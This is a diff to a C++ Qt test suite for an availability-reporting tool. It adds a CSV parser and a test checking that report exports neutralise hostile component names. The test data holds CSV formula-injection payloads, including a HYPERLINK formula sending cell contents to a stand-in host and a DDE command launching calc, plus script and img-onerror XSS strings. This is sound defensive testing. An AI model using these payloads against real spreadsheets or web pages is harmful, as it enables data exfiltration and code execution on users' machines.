@@ -12,6 +12,7 @@
 #include <QProcess>
 #include <QRegularExpression>
 #include <QTemporaryDir>
+#include <QFileInfo>
 #include <QTest>
 
 #include <cmath>
@@ -70,6 +71,43 @@ QString reportPercent(double availability)
     if (s.endsWith(QLatin1Char('.')))
         s.chop(1);
     return s + QLatin1Char('%');
+}
+
+/// RFC 4180 records of a whole CSV text (a quoted field may hold commas, quotes and newlines).
+QList<QStringList> csvRecords(const QString& text)
+{
+    QList<QStringList> out;
+    QStringList record;
+    QString cur;
+    bool quoted = false;
+    for (qsizetype i = 0; i < text.size(); ++i) {
+        const QChar c = text[i];
+        if (quoted) {
+            if (c == QLatin1Char('"') && i + 1 < text.size() && text[i + 1] == QLatin1Char('"')) {
+                cur += c;
+                ++i;
+            } else if (c == QLatin1Char('"')) {
+                quoted = false;
+            } else {
+                cur += c;
+            }
+        } else if (c == QLatin1Char('"')) {
+            quoted = true;
+        } else if (c == QLatin1Char(',')) {
+            record << cur;
+            cur.clear();
+        } else if (c == QLatin1Char('\n')) {
+            record << cur;
+            cur.clear();
+            out << record;
+            record.clear();
+        } else {
+            cur += c;
+        }
+    }
+    if (!cur.isEmpty() || !record.isEmpty())
+        out << (record << cur);
+    return out;
 }
 
 }  // namespace
@@ -192,6 +230,78 @@ private Q_SLOTS:
                  std::round(json_.value(QStringLiteral("downtime_minutes_per_year")).toObject().value(QStringLiteral("mean")).toDouble() * 10) / 10);
         for (const char* table : {"headline", "components", "capacity", "cap", "comparison", "assumptions", "run"})
             QVERIFY2(QFile::exists(path("r-") + QString::fromLatin1(table) + QStringLiteral(".csv")), table);
+    }
+
+    // Names that attack their reader go through every export format: CSV cells a spreadsheet
+    // would run as formulas are neutralised, HTML escapes every user string, JSON keeps them
+    // exactly, nothing is cut in the middle of a character.
+    void hostileNamesAreSafeInEveryFormat()
+    {
+        QFile in(kModel);
+        QVERIFY(in.open(QIODevice::ReadOnly));
+        QJsonObject doc = QJsonDocument::fromJson(in.readAll()).object();
+        const QString longName = QString(10000, QChar(0xe9));  // é, two bytes in UTF-8
+        const QStringList names = {QStringLiteral("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")"),
+                                   QStringLiteral("<script>alert('x')</script>"),
+                                   QStringLiteral("+cmd|' /C calc'!A0"),
+                                   QStringLiteral("@SUM(1,2)\nsecond \"line\"\r"),
+                                   longName};
+        QJsonArray comps = doc.value(QStringLiteral("components")).toArray();
+        QCOMPARE(comps.size(), names.size());
+        for (qsizetype i = 0; i < comps.size(); ++i) {
+            QJsonObject c = comps[i].toObject();
+            c.insert(QStringLiteral("name"), names[i]);
+            comps[i] = c;
+        }
+        doc.insert(QStringLiteral("components"), comps);
+        doc.insert(QStringLiteral("name"), QStringLiteral("-2+3 <img src=x onerror=alert(1)>"));
+        const QString model = path("hostile.nines.json");
+        QFile out(model);
+        QVERIFY(out.open(QIODevice::WriteOnly));
+        out.write(QJsonDocument(doc).toJson());
+        out.close();
+        auto run = [&](const char* file) {
+            const NinesRun r = runNines({QStringLiteral("report"), model, QStringLiteral("-o"), path(file),
+                                         QStringLiteral("--replications"), QStringLiteral("40")});
+            QVERIFY2(r.exitCode == 0, qPrintable(r.err));
+            QVERIFY2(r.err.isEmpty(), qPrintable(r.err));  // nothing on stderr but its own messages
+        };
+        run("h.csv");
+        run("h.html");
+        run("h.json");
+        run("h.pdf");
+        static const QRegularExpression number(QStringLiteral("^[-+]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][-+]?\\d+)?%?$"));
+        int files = 0, neutralised = 0;
+        for (const QFileInfo& f : QDir(dir_.path()).entryInfoList({QStringLiteral("h-*.csv")})) {
+            ++files;
+            const QByteArray bytes = readAll(f.filePath());
+            const QString text = QString::fromUtf8(bytes);
+            QVERIFY2(!text.contains(QChar::ReplacementCharacter) && text.toUtf8() == bytes, qPrintable(f.fileName()));
+            for (const QStringList& rec : csvRecords(text))
+                for (const QString& cell : rec) {
+                    if (cell.startsWith(QLatin1Char('\'')))
+                        ++neutralised;
+                    const bool risky = !cell.isEmpty() && QStringLiteral("=+-@\t\r").contains(cell.front());
+                    QVERIFY2(!risky || number.match(cell).hasMatch(),
+                             qPrintable(f.fileName() + QStringLiteral(": ") + cell.left(80)));
+                }
+        }
+        QVERIFY(files >= 5);
+        QVERIFY(neutralised >= 3);
+        const QByteArray htmlBytes = readAll(path("h.html"));
+        const QString html = QString::fromUtf8(htmlBytes);
+        QVERIFY(!html.contains(QChar::ReplacementCharacter) && html.toUtf8() == htmlBytes);
+        QVERIFY(!html.contains(QStringLiteral("<script>")));
+        QVERIFY(!html.contains(QStringLiteral("<img src=x")));
+        QVERIFY(html.contains(QStringLiteral("&lt;script&gt;")));
+        QVERIFY(html.contains(longName));
+        const QJsonObject json = QJsonDocument::fromJson(readAll(path("h.json"))).object();
+        QVERIFY(!json.isEmpty());
+        bool longKept = false;
+        for (const QJsonValue& a : json.value(QStringLiteral("assumptions")).toArray())
+            longKept = longKept || a.toObject().value(QStringLiteral("name")).toString() == longName;
+        QVERIFY(longKept);
+        QVERIFY(readAll(path("h.pdf")).startsWith("%PDF"));
     }
 
     void badOutputIsRefused()
